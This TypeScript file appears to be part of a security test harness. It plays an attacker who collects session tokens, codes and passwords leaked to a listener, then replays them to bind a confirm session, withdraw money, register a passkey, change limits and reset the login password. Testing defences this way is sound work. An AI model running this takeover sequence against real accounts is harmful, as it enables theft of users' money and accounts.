/** What an attacker does in a browser of their own, with what a way has sent out and both passwords of the member. */
import { openEnvelope, toBase64 } from '@yaksok/shared/core/contract'
import { Http } from '../http.ts'
import type { Case } from './case.ts'
import { MEMBER } from './member.ts'
import { type Fields, logIn, post, sha256 } from './session.ts'

/** Longest that the attacker waits for what a way sends, ms. */
const PATIENCE_MS = 10_000

/** What reaches the attacker, as `sendOut` writes it. */
interface Sent {
  token?: string
  code?: string
  password?: string
  /** Proofs that the page signed, by the path of their call. */
  proofs?: Fields
}

/** What the two passwords confirm. */
const ACTS: [act: string, fields: Fields, secrets: Fields][] = [
  ['withdraw', { money: '1000' }, { pin: MEMBER.pin }],
  ['beginPasskey', {}, { password: MEMBER.password }],
  ['setLimits', { deposit: '', loss: '' }, { pin: MEMBER.pin }],
  ['setLoginPassword', {}, { password: MEMBER.password, next: 'stolen-pass-1' }],
]

/** Binds that browser, reads, and confirms; answers everything that was said. */
export async function actElsewhere(id: string, { app, place, sink }: Case): Promise<string> {
  const sent = await sentBy(id, sink.heard)
  const http = new Http(new URL(app.url))
  const { token = '', code, proofs = {} }: Sent = sent.password ? await logIn(http, place.app, sent.password) : sent
  const session = sha256(token)
  const said: string[] = []
  let cookie = ''
  const send = async (origin: string, path: string, fields: Fields, headers: Fields): Promise<Partial<Fields>> => {
    const got = await post(http, origin, path, fields, headers)
    const opened = openEnvelope(JSON.parse(got.body))
    said.push(JSON.stringify(opened))
    if (origin === place.confirm) cookie = got.headers['set-cookie']?.[0]?.split(';', 1)[0] ?? cookie
    return (opened.data ?? {}) as Partial<Fields>
  }
  const step = (name: string, fields: Fields) =>
    send(place.confirm, `confirm/${name}`, { session, ...fields }, { ...(cookie && { cookie }) })
  const call = (path: string, fields: Fields = {}, headers: Fields = {}) =>
    send(place.app, path, fields, { token: toBase64(token), proof: proofs[path] ?? '', ...headers })

  // as the confirm page does: a browser that has asked has a cookie
  await step('begin', { act: 'withdraw', money: '1000' })
  await step('bind', { code: code ?? (await call('member/confirm')).code ?? '' })
  await call('getBankBind')
  for (const [act, fields, secrets] of ACTS) {
    const { intent = 'A'.repeat(43) } = await step('begin', { act, ...fields })
    await step('answer', { act, intent, ...secrets })
    if (act === 'withdraw') await call('user_set_withdraw', { ...fields, paypassword: '' }, { intent })
  }
  http.close()
  return said.join()
}

/** @throws Error where nothing comes: the way was not tried then */
async function sentBy(id: string, heard: readonly string[]): Promise<Sent> {
  for (const end = performance.now() + PATIENCE_MS; performance.now() < end; ) {
    const line = heard.find((one) => one.startsWith(`${id} GET /?`))
    if (line) return JSON.parse(decodeURIComponent(line.slice(line.indexOf('?') + 1)))
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  throw new Error('nothing reached the attacker')
}
